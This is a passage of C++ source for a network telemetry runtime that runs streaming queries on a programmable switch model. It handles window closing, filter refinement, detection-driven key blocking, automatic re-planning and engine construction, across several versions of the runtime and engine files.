    for (const int level : pq.chain) {
      LevelExec le;
      le.level = level;
      le.exec = std::make_unique<stream::QueryExecutor>(pq.exec_queries.at(level));
      qs.levels.push_back(std::move(le));
    }
    queries_.push_back(std::move(qs));

    for (const PlannedPipeline& p : pq.pipelines) {
      if (p.partition == 0) {
        raw_feeds_.push_back({p.qid, p.level, p.source_index});
        continue;
      }
      pisa::CompiledSwitchQuery::Options opts;
      opts.qid = p.qid;
      opts.source_index = p.source_index;
      opts.level = p.level;
      opts.partition = p.partition;
      opts.sizing = p.sizing;
      pipelines.push_back(std::make_unique<pisa::CompiledSwitchQuery>(*p.node, opts));
      resources.push_back(pisa::build_resources(*p.node, p.partition, p.sizing, p.qid,
                                                p.source_index, p.level));
    }
  }
  const std::string err = switch_.install(std::move(pipelines), resources);
  assert(err.empty() && "plan does not fit the switch it was planned for");
  (void)err;
}

int Runtime::remap_source(query::QueryId qid, int level, int source_index) const {
  for (const auto& qs : queries_) {
    if (qs.pq->base->id() != qid) continue;
    const auto it = qs.pq->source_remap.find(level);
    if (it == qs.pq->source_remap.end()) return source_index;
    return it->second.at(static_cast<std::size_t>(source_index));
  }
  return source_index;
}

stream::QueryExecutor& Runtime::executor(query::QueryId qid, int level) {
  for (auto& qs : queries_) {
    if (qs.pq->base->id() != qid) continue;
    for (auto& le : qs.levels) {
      if (le.level == level) return *le.exec;
    }
  }
  assert(false && "no executor for (qid, level)");
  __builtin_unreachable();
}

void Runtime::ingest(const net::Packet& packet) {
  ++current_.packets;
  const Tuple source = query::materialize_tuple(packet);
  scratch_.clear();
  switch_.process_tuple(source, scratch_);
  for (const auto& rec : scratch_) {
    ++total_records_;
    if (rec.kind == pisa::EmitRecord::Kind::kOverflow) {
      ++current_.overflow_records;
      ++total_overflows_;
    }
    emitter_.deliver(rec, executor(rec.qid, rec.level),
                     remap_source(rec.qid, rec.level, rec.source_index));
  }
  const bool raw = plan_.raw_mirror && !raw_feeds_.empty();
  if (raw) {
    ++current_.raw_mirror_packets;
    ++total_records_;
    for (const auto& feed : raw_feeds_) {
      const int src_idx = remap_source(feed.qid, feed.level, feed.source_index);
      if (src_idx >= 0) executor(feed.qid, feed.level).ingest(src_idx, source, 0);
    }
  }
  // One mirrored packet per original packet: the PHV carries a single
  // report bit plus every query's intermediate results (paper §3.1.3), so
  // N counts packets with at least one emission (or the raw mirror).
  if (raw || !scratch_.empty()) ++current_.tuples_to_sp;
}

WindowStats Runtime::close_window() {
  // 1. Poll switch registers for stateful tails (control channel).
  for (const auto& p : switch_.pipelines()) {
    if (!p->has_stateful_tail()) continue;
    auto& exec = executor(p->options().qid, p->options().level);
    const int src_idx =
        remap_source(p->options().qid, p->options().level, p->options().source_index);
    if (src_idx < 0) continue;
    for (Tuple& t : p->poll_aggregates()) {
      exec.ingest(src_idx, std::move(t), p->poll_entry_op());
    }
  }

  // 2. Close levels coarse-to-fine; feed winners into the next level's
  //    dynamic filter tables (they take effect for the next window).
  const double control_before = switch_.stats().control_update_millis;
  for (auto& qs : queries_) {
    const PlannedQuery& pq = *qs.pq;
    for (std::size_t li = 0; li < qs.levels.size(); ++li) {
      std::vector<Tuple> outputs = qs.levels[li].exec->end_window();
      const bool finest = li + 1 == qs.levels.size();
      if (finest) {
        current_.results.push_back({pq.base->id(), pq.base->name(), std::move(outputs)});
        continue;
      }
      // Winner keys: the refinement key column of this level's output.
      const int level = qs.levels[li].level;
      const int next = qs.levels[li + 1].level;
      const auto& schema = pq.exec_queries.at(level).root()->output_schema();
      const std::string& key_col =
          pq.keys.empty() ? std::string{} : pq.keys.front().key_column;
      const auto idx = schema.index_of(key_col);
      std::vector<Tuple> winners;
      if (idx) {
        std::unordered_set<Tuple, query::TupleHasher> dedup;
        for (const Tuple& out : outputs) {
          Tuple key;
          key.values.push_back(out.at(*idx));
          if (dedup.insert(key).second) winners.push_back(std::move(key));
        }
      }
      // Install on both sides: every source's next-level pipeline.
      for (const auto& p : pq.pipelines) {
        if (p.level != next || p.filter_table.empty()) continue;
        switch_.update_filter_entries(p.filter_table, winners);
        qs.levels[li + 1].exec->set_filter_entries(p.filter_table, winners);
      }
      auto& installed = current_.winners[pq.base->id()];
      installed.insert(installed.end(), winners.begin(), winners.end());
    }
  }

  // 3. Closed-loop mitigation: block the keys behind this window's
  //    detections (takes effect from the next window; paper Section 8).
  for (const auto& policy : mitigations_) {
    for (const auto& qs : queries_) {
      if (qs.pq->base->id() != policy.qid) continue;
      const int finest = qs.pq->chain.back();
      const auto& schema = qs.pq->exec_queries.at(finest).root()->output_schema();
      const auto col = schema.index_of(policy.output_column);
      if (!col) continue;
      for (const auto& result : current_.results) {
        if (result.qid != policy.qid) continue;
        for (const auto& t : result.outputs) {
          if (switch_.blocked_keys() >= policy.max_entries) break;
          switch_.block(policy.packet_field, t.at(*col));
        }
      }
    }
  }

  // 4. Reset registers for the next window.
  switch_.reset_all_registers();
  current_.control_update_millis = switch_.stats().control_update_millis - control_before;
  current_.dropped_packets = switch_.stats().dropped_packets - dropped_before_window_;
  dropped_before_window_ = switch_.stats().dropped_packets;

  // Re-planning trigger: sustained collision overflow means the registers
  // were sized for different traffic (paper §5).
  {
    const double fraction =
        current_.packets == 0 ? 0.0
                              : static_cast<double>(current_.overflow_records) /
                                    static_cast<double>(current_.packets);
    overflow_streak_ = fraction > replan_policy_.overflow_threshold ? overflow_streak_ + 1 : 0;
    if (overflow_streak_ >= replan_policy_.consecutive_windows) replan_recommended_ = true;
  }

  current_.window_index = window_counter_++;
  WindowStats out = std::move(current_);
  current_ = WindowStats{};
  return out;
}

WindowStats Runtime::process_window(std::span<const net::Packet> packets) {
  for (const auto& p : packets) ingest(p);
  return close_window();
}

std::vector<WindowStats> Runtime::run_trace(std::span<const net::Packet> trace) {
  std::vector<WindowStats> out;
  const util::Nanos w = plan_.window;
  std::size_t begin = 0;
  while (begin < trace.size()) {
    const std::uint64_t idx = util::window_index(trace[begin].ts, w);
    std::size_t end = begin;
    while (end < trace.size() && util::window_index(trace[end].ts, w) == idx) ++end;
    out.push_back(process_window(trace.subspan(begin, end - begin)));
    begin = end;
  }
  return out;
}

void Runtime::enable_mitigation(MitigationPolicy policy) {
  mitigations_.push_back(std::move(policy));
}

double Runtime::overflow_fraction() const noexcept {
  return total_records_ == 0
             ? 0.0
             : static_cast<double>(total_overflows_) / static_cast<double>(total_records_);
}

}  // namespace sonata::runtime
