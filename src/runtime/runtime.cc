#include "runtime/runtime.h"

#include <algorithm>
#include <cassert>
#include <cstddef>
#include <span>
#include <utility>

#include "obs/journal.h"
#include "runtime/plan_install.h"

namespace sonata::runtime {

using planner::PlannedPipeline;
using planner::PlannedQuery;
using query::Tuple;

Runtime::Runtime(planner::Plan plan, std::size_t batch_size, fault::FaultSpec faults)
    : batch_size_(std::max<std::size_t>(batch_size, 1)), faults_(faults) {
  if (faults.any()) injector_ = std::make_unique<fault::Injector>(faults);
  if (injector_ && faults.wire_active()) wire_ = std::make_unique<WireChannel>(*injector_);
  install_plan(std::move(plan), /*register_pressure=*/true);
}

void Runtime::install_plan(planner::Plan plan, bool register_pressure) {
  // Partial recompile: hand the outgoing program's pipelines to the shared
  // builder so unchanged (query, source, level, partition, sizing) entries
  // are reused with their runtime state reset. The match runs while BOTH
  // plans are alive, so node-pointer identity is sound.
  std::vector<std::unique_ptr<pisa::CompiledSwitchQuery>> reusable;
  if (switch_) reusable = switch_->release_pipelines();
  PipelineBuildOptions build_opts;
  if (register_pressure) {
    // Register pressure (fault injection): install with registers sized
    // for traffic that has since drifted and/or an adversarial hash seed.
    // A swap (auto-replan or control plane) installs clean — re-planning
    // is the recovery from register pressure.
    build_opts.register_shrink = faults_.register_shrink;
    build_opts.hash_seed = faults_.hash_seed;
  }
  PipelineBuild build = build_pipelines(plan, std::move(reusable), build_opts);

  // Tear down in dependency order (sp_ holds pointers into plan_), then
  // rebuild. On the initial install this is a plain construction; on a
  // swap it replaces the switch program and the stream executors between
  // windows. Mitigation guard entries and dynamic filter winners do not
  // survive the swap — they are rebuilt from the next window's detections.
  sp_.reset();
  switch_.reset();
  plan_ = std::move(plan);
  switch_ = std::make_unique<pisa::Switch>(plan_.switch_config);
  sp_ = std::make_unique<StreamProcessor>(plan_);
  const std::string err = switch_->install(std::move(build.pipelines), build.resources);
  assert(err.empty() && "plan does not fit the switch it was planned for");
  (void)err;
}

void Runtime::apply_plan(planner::Plan plan) {
  install_plan(std::move(plan), /*register_pressure=*/false);
  // The fresh switch's drop counter restarts, and the old plan's overflow
  // history says nothing about the new register sizing.
  dropped_before_window_ = 0;
  overflow_streak_ = 0;
  replan_recommended_ = false;
}

void Runtime::deliver_record(pisa::EmitRecord&& rec) {
  const auto deliver = [&](pisa::EmitRecord&& d) {
    // Overflow counts only records the SP accepted: a corrupted header the
    // SP's routing boundary rejects never reached its counters either.
    const bool overflow = d.kind == pisa::EmitRecord::Kind::kOverflow;
    if (!sp_->deliver(std::move(d))) return false;
    if (overflow) {
      ++current_.overflow_records;
      ++total_overflows_;
    }
    return true;
  };
  if (wire_) {
    // Round-trip the record through the report codec over the faulty wire;
    // overflow accounting moves to the delivered side (a dropped overflow
    // report never reaches the stream processor — or its counters).
    wire_->transmit(rec, deliver);
  } else {
    deliver(std::move(rec));
  }
}

void Runtime::ingest(const net::Packet& packet) {
  ++current_.packets;
  if (auto_replan_) history_.back().push_back(packet);
  if (batch_size_ == 1) {
    // Legacy per-packet path (the equivalence baseline): fresh tuple, one
    // switch call, immediate delivery (ingest == delivery, so the latency
    // histogram records the floor bucket — delivery here is synchronous).
    const Tuple source = query::materialize_tuple(packet);
    sink_.clear();
    switch_->process_one(source, sink_);
    const std::uint64_t now = obs::enabled() ? obs::now_ns() : 0;
    sp_->begin_delivery(now);
    for (pisa::EmitRecord& rec : sink_.records()) {
      rec.ingest_ns = now;
      ++total_records_;
      deliver_record(std::move(rec));
    }
    const bool raw = sp_->wants_raw_mirror();
    if (raw) {
      ++current_.raw_mirror_packets;
      ++total_records_;
      sp_->deliver_raw(source);
    }
    if (raw || !sink_.empty()) ++current_.tuples_to_sp;
    return;
  }
  if (pending_used_ == 0 && obs::enabled()) pending_first_ns_ = obs::now_ns();
  if (pending_used_ == pending_tuples_.size()) pending_tuples_.emplace_back();
  query::materialize_tuple_into(packet, pending_tuples_[pending_used_++]);
  if (pending_used_ >= batch_size_) flush_pending();
}

void Runtime::flush_pending() {
  if (pending_used_ == 0) return;
  const std::span<Tuple> batch{pending_tuples_.data(), pending_used_};
  sink_.clear();
  {
    // One timed span for the whole buffered batch — per-chunk clock reads
    // would cost more than the obs overhead budget at kProcessChunk
    // granularity. Inside it, the pipelines still consume the buffer in
    // cache-sized runs (the sequential re-read is prefetch-friendly), and
    // records accumulate in sink_ across chunks exactly as one call would.
    obs::PhaseTimer t{phase_accum_, obs::Phase::kCompute};
    for (std::size_t off = 0; off < pending_used_; off += kProcessChunk) {
      switch_->process_batch(batch.subspan(off, std::min(kProcessChunk, pending_used_ - off)),
                             sink_);
    }
  }
  obs::PhaseTimer merge_timer{phase_accum_, obs::Phase::kMerge};
  if (pending_first_ns_ != 0) {
    // Stamp the whole batch's records with its first packet's ingest time
    // and the merge start as the delivery time — one clock read per batch
    // on each side, never per record. ingest_ns is metadata only; results
    // are bit-identical with metrics on or off.
    const std::uint64_t now = obs::now_ns();
    for (pisa::EmitRecord& rec : sink_.records()) rec.ingest_ns = pending_first_ns_;
    sp_->begin_delivery(now);
  } else {
    sp_->begin_delivery(0);
  }
  for (pisa::EmitRecord& rec : sink_.records()) {
    ++total_records_;
    deliver_record(std::move(rec));
  }
  // One mirrored packet per original packet: the PHV carries a single
  // report bit plus every query's intermediate results (paper §3.1.3), so
  // N counts packets with at least one emission (or the raw mirror).
  // tuples_to_sp stays switch-side accounting: what the switch *sent*, not
  // what survived a faulty wire.
  const bool raw = sp_->wants_raw_mirror();
  if (raw) {
    const std::uint64_t n = pending_used_;
    current_.raw_mirror_packets += n;
    total_records_ += n;
    current_.tuples_to_sp += n;
    sp_->deliver_raw_batch(batch);
  } else {
    current_.tuples_to_sp += sink_.packets_with_records();
  }
  pending_used_ = 0;
  pending_first_ns_ = 0;
}

WindowStats Runtime::do_close_window() {
  // Fix the closing window's index up front so journal events emitted
  // during the close (replan, sketch bounds) carry it; the final increment
  // below assigns the same value.
  current_.window_index = window_counter_;

  // 0. Flush the tail batch so the window observes every ingested packet,
  //    and release a still-held (reordered) report — reordering never
  //    crosses a window boundary.
  flush_pending();
  if (wire_) {
    wire_->flush([&](pisa::EmitRecord&& d) {
      // Held records are verbatim copies of routable records; the overflow
      // gate mirrors deliver_record's for uniformity.
      const bool overflow = d.kind == pisa::EmitRecord::Kind::kOverflow;
      if (!sp_->deliver(std::move(d))) return false;
      if (overflow) {
        ++current_.overflow_records;
        ++total_overflows_;
      }
      return true;
    });
  }

  // 1. Poll switch registers for stateful tails (control channel).
  {
    obs::PhaseTimer t{phase_accum_, obs::Phase::kPoll};
    sp_->poll_switch(*switch_);
  }

  obs::PhaseTimer close_timer{phase_accum_, obs::Phase::kClose};

  // 2. Close levels coarse-to-fine; winners install into the next level's
  //    dynamic filter tables (they take effect for the next window).
  const double control_before = switch_->stats().control_update_millis;
  pisa::Switch* const switches[] = {switch_.get()};
  sp_->close_levels(current_, switches);

  // 3. Closed-loop mitigation: block the keys behind this window's
  //    detections (takes effect from the next window; paper Section 8).
  for (const auto& policy : mitigations_) {
    const PlannedQuery* pq = sp_->planned(policy.qid);
    if (!pq) continue;
    const int finest = pq->chain.back();
    const auto& schema = pq->exec_queries.at(finest).root()->output_schema();
    const auto col = schema.index_of(policy.output_column);
    if (!col) continue;
    for (const auto& result : current_.results) {
      if (result.qid != policy.qid) continue;
      for (const auto& t : result.outputs) {
        if (switch_->blocked_keys() >= policy.max_entries) break;
        switch_->block(policy.packet_field, t.at(*col));
      }
    }
  }

  // 4. Reset registers for the next window.
  switch_->reset_all_registers();
  close_timer.stop();
  current_.control_update_millis = switch_->stats().control_update_millis - control_before;
  current_.dropped_packets = switch_->stats().dropped_packets - dropped_before_window_;
  dropped_before_window_ = switch_->stats().dropped_packets;
  current_.phases = to_breakdown(phase_accum_);
  phase_accum_.reset();

  // Re-planning trigger: sustained collision overflow means the registers
  // were sized for different traffic (paper §5). The fraction is over
  // *processed* packets: mitigation-dropped packets never reach the
  // registers, so counting them in the denominator deflated the fraction
  // exactly when a drop storm coincided with register pressure — the
  // moment the trigger matters most.
  {
    const std::uint64_t dropped = std::min(current_.dropped_packets, current_.packets);
    const std::uint64_t processed = current_.packets - dropped;
    const double fraction = processed == 0 ? 0.0
                                           : static_cast<double>(current_.overflow_records) /
                                                 static_cast<double>(processed);
    overflow_streak_ = fraction > replan_policy_.overflow_threshold ? overflow_streak_ + 1 : 0;
    if (overflow_streak_ >= replan_policy_.consecutive_windows && !replan_recommended_) {
      replan_recommended_ = true;
      obs::Journal::global().emit(obs::EventType::kReplanTriggered, current_.window_index, 0, 0,
                                  static_cast<std::int64_t>(current_.overflow_records),
                                  overflow_streak_, 0, "overflow streak");
    }
  }

  // Acted-on re-planning: consume the recommendation by re-running the
  // planner against the retained live windows (whose key counts reflect
  // the drifted traffic) and hot-swapping the plan before the next window.
  if (replan_recommended_ && auto_replan_ && !history_.empty()) {
    std::vector<net::Packet> training;
    std::size_t total = 0;
    for (const auto& w : history_) total += w.size();
    training.reserve(total);
    for (const auto& w : history_) training.insert(training.end(), w.begin(), w.end());
    if (!training.empty()) {
      planner::Planner planner(auto_replan_cfg_.planner);
      install_plan(planner.plan(*auto_replan_cfg_.queries, training),
                   /*register_pressure=*/false);
      dropped_before_window_ = 0;  // the fresh switch's drop counter restarts
      replan_recommended_ = false;
      overflow_streak_ = 0;
      ++replans_;
      replans_ctr_->add(1);
      current_.plan_swapped = true;
      obs::Journal::global().emit(obs::EventType::kReplanApplied, current_.window_index, 0, 0,
                                  static_cast<std::int64_t>(replans_),
                                  static_cast<std::int64_t>(training.size()), 0, "auto-replan");
    }
  }
  if (auto_replan_) {
    history_.emplace_back();
    while (history_.size() > auto_replan_cfg_.history_windows) history_.pop_front();
  }

  // Degradation bookkeeping: the single switch always contributes fully
  // (stalls/watchdog are fleet concepts); fault accounting still reports
  // this window's slice of the injector's cumulative counters.
  current_.contribution_mask = 1;
  if (injector_) {
    const fault::FaultAccount cumulative = injector_->account();
    current_.faults = cumulative - last_account_;
    last_account_ = cumulative;
  }

  current_.window_index = window_counter_++;
  WindowStats out = std::move(current_);
  current_ = WindowStats{};
  return out;
}

void Runtime::enable_mitigation(MitigationPolicy policy) {
  mitigations_.push_back(std::move(policy));
}

void Runtime::enable_auto_replan(AutoReplanConfig cfg) {
  assert(cfg.queries != nullptr);
  auto_replan_cfg_ = std::move(cfg);
  if (auto_replan_cfg_.history_windows == 0) auto_replan_cfg_.history_windows = 1;
  auto_replan_ = true;
  history_.clear();
  history_.emplace_back();
  replans_ctr_ = &obs::Registry::global().counter("sonata_runtime_replans_total");
}

double Runtime::overflow_fraction() const noexcept {
  return total_records_ == 0
             ? 0.0
             : static_cast<double>(total_overflows_) / static_cast<double>(total_records_);
}

}  // namespace sonata::runtime
