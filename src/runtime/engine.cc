#include "runtime/engine.h"

#include <algorithm>
#include <cstddef>

#include "runtime/fleet.h"
#include "runtime/runtime.h"
#include "util/time.h"

namespace sonata::runtime {

WindowStats TelemetryEngine::process_window(std::span<const net::Packet> packets) {
  for (const auto& p : packets) ingest(p);
  return close_window();
}

std::vector<WindowStats> TelemetryEngine::run_trace(std::span<const net::Packet> trace) {
  std::vector<WindowStats> out;
  const util::Nanos w = plan().window;
  std::size_t begin = 0;
  while (begin < trace.size()) {
    const std::uint64_t idx = util::window_index(trace[begin].ts, w);
    std::size_t end = begin;
    while (end < trace.size() && util::window_index(trace[end].ts, w) == idx) ++end;
    out.push_back(process_window(trace.subspan(begin, end - begin)));
    begin = end;
  }
  return out;
}

std::unique_ptr<TelemetryEngine> make_engine(planner::Plan plan, const EngineOptions& opts) {
  const std::size_t batch = std::max<std::size_t>(opts.batch_size, 1);
  if (opts.switches <= 1 && opts.worker_threads == 0) {
    return std::make_unique<Runtime>(std::move(plan), batch);
  }
  return std::make_unique<Fleet>(std::move(plan), std::max<std::size_t>(opts.switches, 1),
                                 opts.worker_threads, batch);
}

}  // namespace sonata::runtime
