#include "runtime/engine.h"

#include <algorithm>
#include <cstddef>
#include <utility>

#include "obs/journal.h"
#include "obs/metrics.h"
#include "obs/tracing.h"
#include "runtime/control_plane.h"
#include "runtime/fleet.h"
#include "runtime/runtime.h"
#include "util/log.h"
#include "util/time.h"

namespace sonata::runtime {

namespace {

// Registry-side window accounting, shared by every driver. Handles are
// resolved lazily once; the adds are self-gated on obs::enabled.
void publish_window_obs(const WindowStats& w) {
  static obs::Counter& windows = obs::Registry::global().counter("sonata_windows_total");
  static obs::Counter& partial = obs::Registry::global().counter("sonata_windows_partial_total");
  static obs::Counter* phase_nanos[obs::kPhaseCount] = {};
  if (phase_nanos[0] == nullptr) {
    for (int i = 0; i < obs::kPhaseCount; ++i) {
      const std::pair<std::string_view, std::string> labels[] = {
          {"phase", obs::phase_name(static_cast<obs::Phase>(i))}};
      phase_nanos[i] =
          &obs::Registry::global().counter(obs::labeled("sonata_window_phase_nanos_total", labels));
    }
  }
  windows.add(1);
  if (w.partial) partial.add(1);
  phase_nanos[static_cast<int>(obs::Phase::kIngest)]->add(w.phases.ingest_nanos);
  phase_nanos[static_cast<int>(obs::Phase::kCompute)]->add(w.phases.compute_nanos);
  phase_nanos[static_cast<int>(obs::Phase::kMerge)]->add(w.phases.merge_nanos);
  phase_nanos[static_cast<int>(obs::Phase::kPoll)]->add(w.phases.poll_nanos);
  phase_nanos[static_cast<int>(obs::Phase::kClose)]->add(w.phases.close_nanos);
}

planner::AdmissionDiagnostic no_control_plane() {
  planner::AdmissionDiagnostic d;
  d.code = planner::AdmissionDiagnostic::Code::kNoControlPlane;
  d.message =
      "engine was built without a control plane; use EngineBuilder for dynamic "
      "query admission";
  return d;
}

}  // namespace

TelemetryEngine::TelemetryEngine() = default;
TelemetryEngine::~TelemetryEngine() = default;

WindowStats TelemetryEngine::close_window() {
  WindowStats w = do_close_window();
  w.plan_version = plan().version;
  if (control_ != nullptr && control_->dirty()) {
    // Apply pending submissions/withdrawals at the barrier: the plan is a
    // versioned object, and the swap lands between windows so window N is
    // entirely version V and window N+1 entirely V+1.
    planner::Plan next = control_->take_snapshot();
    SONATA_INFO("engine", "control-plane swap after window %llu: %zu queries, plan v%llu",
                static_cast<unsigned long long>(w.window_index), next.queries.size(),
                static_cast<unsigned long long>(next.version));
    apply_plan(std::move(next));
    control_->free_retired();
    w.plan_swapped = true;
    obs::Journal::global().emit(obs::EventType::kPlanSwap, w.window_index, 0, 0,
                                static_cast<std::int64_t>(plan().version),
                                static_cast<std::int64_t>(plan().queries.size()), 0,
                                "control-plane swap");
  }
  return w;
}

util::Expected<QueryHandle, planner::AdmissionDiagnostic> TelemetryEngine::submit(
    query::Query q, std::string_view tenant) {
  if (control_ == nullptr) return no_control_plane();
  return control_->submit(std::move(q), tenant);
}

util::Expected<util::Ok, planner::AdmissionDiagnostic> TelemetryEngine::withdraw(QueryHandle h) {
  if (control_ == nullptr) return no_control_plane();
  return control_->withdraw(h);
}

WindowStats TelemetryEngine::process_window(std::span<const net::Packet> packets) {
  const bool tracing = obs::TraceRecorder::global().enabled();
  const std::uint64_t start = tracing ? obs::now_ns() : 0;
  for (const auto& p : packets) ingest(p);
  WindowStats w = close_window();
  if (tracing) {
    obs::TraceRecorder::global().record("window", "window", start, obs::now_ns() - start);
  }
  std::size_t detections_for_journal = 0;
  for (const auto& r : w.results) detections_for_journal += r.outputs.size();
  if (obs::enabled()) {
    publish_window_obs(w);
    obs::Journal& journal = obs::Journal::global();
    journal.emit(obs::EventType::kWindowSummary, w.window_index, 0, 0,
                 static_cast<std::int64_t>(w.packets),
                 static_cast<std::int64_t>(w.tuples_to_sp),
                 static_cast<std::int64_t>(detections_for_journal),
                 w.partial ? "partial" : "");
    if (w.faults.total() > 0) {
      journal.emit(obs::EventType::kFaultBurst, w.window_index, 0, 0,
                   static_cast<std::int64_t>(w.faults.total()),
                   static_cast<std::int64_t>(w.late_packets),
                   static_cast<std::int64_t>(w.shed_packets));
    }
    // Keep the crash flight recorder's metrics page current: one snapshot
    // serialization per window, on the driver thread, only when a handler
    // is armed.
    if (obs::crash_handler_installed()) {
      obs::crash_store_metrics(obs::Registry::global().snapshot().to_json());
    }
  }
  if (w.partial) {
    SONATA_WARN("engine",
                "window %llu closed PARTIAL: contribution_mask=0x%llx late=%llu shed=%llu",
                static_cast<unsigned long long>(w.window_index),
                static_cast<unsigned long long>(w.contribution_mask),
                static_cast<unsigned long long>(w.late_packets),
                static_cast<unsigned long long>(w.shed_packets));
  }
  std::size_t detections = 0;
  for (const auto& r : w.results) detections += r.outputs.size();
  SONATA_INFO("engine",
              "window %llu: packets=%llu tuples_to_sp=%llu (raw %llu) overflows=%llu "
              "detections=%zu phases[ms] ingest=%.3f compute=%.3f merge=%.3f poll=%.3f "
              "close=%.3f total=%.3f ctrl=%.1f",
              static_cast<unsigned long long>(w.window_index),
              static_cast<unsigned long long>(w.packets),
              static_cast<unsigned long long>(w.tuples_to_sp),
              static_cast<unsigned long long>(w.raw_mirror_packets),
              static_cast<unsigned long long>(w.overflow_records), detections,
              w.phases.ingest_millis(), w.phases.compute_millis(), w.phases.merge_millis(),
              w.phases.poll_millis(), w.phases.close_millis(), w.phases.total_millis(),
              w.control_update_millis);
  return w;
}

std::vector<WindowStats> TelemetryEngine::run_trace(std::span<const net::Packet> trace) {
  std::vector<WindowStats> out;
  const util::Nanos w = plan().window;
  std::size_t begin = 0;
  while (begin < trace.size()) {
    const std::uint64_t idx = util::window_index(trace[begin].ts, w);
    std::size_t end = begin;
    while (end < trace.size() && util::window_index(trace[end].ts, w) == idx) ++end;
    out.push_back(process_window(trace.subspan(begin, end - begin)));
    begin = end;
  }
  return out;
}

// -- EngineBuilder ------------------------------------------------------

EngineBuilder::EngineBuilder() = default;
EngineBuilder::~EngineBuilder() = default;
EngineBuilder::EngineBuilder(EngineBuilder&&) noexcept = default;
EngineBuilder& EngineBuilder::operator=(EngineBuilder&&) noexcept = default;

EngineBuilder& EngineBuilder::topology(std::size_t switches, std::size_t worker_threads) {
  switches_ = std::max<std::size_t>(switches, 1);
  worker_threads_ = worker_threads;
  return *this;
}

EngineBuilder& EngineBuilder::batch(std::size_t batch_size) {
  batch_size_ = std::max<std::size_t>(batch_size, 1);
  return *this;
}

EngineBuilder& EngineBuilder::faults(fault::FaultSpec spec) {
  faults_ = spec;
  return *this;
}

EngineBuilder& EngineBuilder::pin_workers(bool pin) {
  pin_workers_ = pin;
  return *this;
}

EngineBuilder& EngineBuilder::planner(planner::PlannerConfig cfg) {
  planner_ = std::move(cfg);
  return *this;
}

EngineBuilder& EngineBuilder::training(std::span<const net::Packet> packets) {
  windows_ = planner::materialize_windows(packets, planner_.window);
  have_training_ = true;
  return *this;
}

EngineBuilder& EngineBuilder::training_windows(std::vector<planner::TupleWindow> windows) {
  windows_ = std::move(windows);
  have_training_ = true;
  return *this;
}

EngineBuilder& EngineBuilder::tenant(std::string_view name, planner::TenantBudget budget) {
  tenants_.emplace_back(std::string(name), budget);
  return *this;
}

EngineBuilder& EngineBuilder::admit(query::Query q, std::string_view tenant) {
  pending_.push_back({std::move(q), std::string(tenant)});
  return *this;
}

EngineBuilder& EngineBuilder::admit(std::vector<query::Query> queries, std::string_view tenant) {
  for (auto& q : queries) pending_.push_back({std::move(q), std::string(tenant)});
  return *this;
}

util::Expected<EngineBuilder::PlannedSetup, planner::AdmissionDiagnostic>
EngineBuilder::plan_only() {
  if (!have_training_) {
    planner::AdmissionDiagnostic d;
    d.code = planner::AdmissionDiagnostic::Code::kValidation;
    d.message = "no training traffic: call training() or training_windows() before build()";
    return d;
  }
  auto control = std::make_unique<ControlPlane>(planner_, std::move(windows_));
  have_training_ = false;
  for (const auto& [name, budget] : tenants_) control->define_tenant(name, budget);
  for (auto& p : pending_) {
    auto admitted = control->submit(std::move(p.q), p.tenant);
    if (!admitted) return admitted.error();
  }
  pending_.clear();
  PlannedSetup setup;
  setup.plan = control->take_snapshot();
  setup.control = std::move(control);
  return setup;
}

util::Expected<std::unique_ptr<TelemetryEngine>, planner::AdmissionDiagnostic>
EngineBuilder::build() {
  auto planned = plan_only();
  if (!planned) return planned.error();
  auto control = std::move(planned->control);
  planner::Plan plan = std::move(planned->plan);
  std::unique_ptr<TelemetryEngine> engine;
  if (switches_ <= 1 && worker_threads_ == 0) {
    engine = std::make_unique<Runtime>(std::move(plan), batch_size_, faults_);
  } else {
    engine = std::make_unique<Fleet>(std::move(plan), switches_, worker_threads_, batch_size_,
                                     faults_, pin_workers_);
  }
  engine->control_ = std::move(control);
  return engine;
}

}  // namespace sonata::runtime
