#include "runtime/engine.h"

#include <algorithm>
#include <cstddef>

#include "obs/metrics.h"
#include "obs/tracing.h"
#include "runtime/fleet.h"
#include "runtime/runtime.h"
#include "util/log.h"
#include "util/time.h"

namespace sonata::runtime {

namespace {

// Registry-side window accounting, shared by every driver. Handles are
// resolved lazily once; the adds are self-gated on obs::enabled.
void publish_window_obs(const WindowStats& w) {
  static obs::Counter& windows = obs::Registry::global().counter("sonata_windows_total");
  static obs::Counter& partial = obs::Registry::global().counter("sonata_windows_partial_total");
  static obs::Counter* phase_nanos[obs::kPhaseCount] = {};
  if (phase_nanos[0] == nullptr) {
    for (int i = 0; i < obs::kPhaseCount; ++i) {
      const std::pair<std::string_view, std::string> labels[] = {
          {"phase", obs::phase_name(static_cast<obs::Phase>(i))}};
      phase_nanos[i] =
          &obs::Registry::global().counter(obs::labeled("sonata_window_phase_nanos_total", labels));
    }
  }
  windows.add(1);
  if (w.partial) partial.add(1);
  phase_nanos[static_cast<int>(obs::Phase::kIngest)]->add(w.phases.ingest_nanos);
  phase_nanos[static_cast<int>(obs::Phase::kCompute)]->add(w.phases.compute_nanos);
  phase_nanos[static_cast<int>(obs::Phase::kMerge)]->add(w.phases.merge_nanos);
  phase_nanos[static_cast<int>(obs::Phase::kPoll)]->add(w.phases.poll_nanos);
  phase_nanos[static_cast<int>(obs::Phase::kClose)]->add(w.phases.close_nanos);
}

}  // namespace

WindowStats TelemetryEngine::process_window(std::span<const net::Packet> packets) {
  const bool tracing = obs::TraceRecorder::global().enabled();
  const std::uint64_t start = tracing ? obs::now_ns() : 0;
  for (const auto& p : packets) ingest(p);
  WindowStats w = close_window();
  if (tracing) {
    obs::TraceRecorder::global().record("window", "window", start, obs::now_ns() - start);
  }
  if (obs::enabled()) publish_window_obs(w);
  if (w.partial) {
    SONATA_WARN("engine",
                "window %llu closed PARTIAL: contribution_mask=0x%llx late=%llu shed=%llu",
                static_cast<unsigned long long>(w.window_index),
                static_cast<unsigned long long>(w.contribution_mask),
                static_cast<unsigned long long>(w.late_packets),
                static_cast<unsigned long long>(w.shed_packets));
  }
  std::size_t detections = 0;
  for (const auto& r : w.results) detections += r.outputs.size();
  SONATA_INFO("engine",
              "window %llu: packets=%llu tuples_to_sp=%llu (raw %llu) overflows=%llu "
              "detections=%zu phases[ms] ingest=%.3f compute=%.3f merge=%.3f poll=%.3f "
              "close=%.3f total=%.3f ctrl=%.1f",
              static_cast<unsigned long long>(w.window_index),
              static_cast<unsigned long long>(w.packets),
              static_cast<unsigned long long>(w.tuples_to_sp),
              static_cast<unsigned long long>(w.raw_mirror_packets),
              static_cast<unsigned long long>(w.overflow_records), detections,
              w.phases.ingest_millis(), w.phases.compute_millis(), w.phases.merge_millis(),
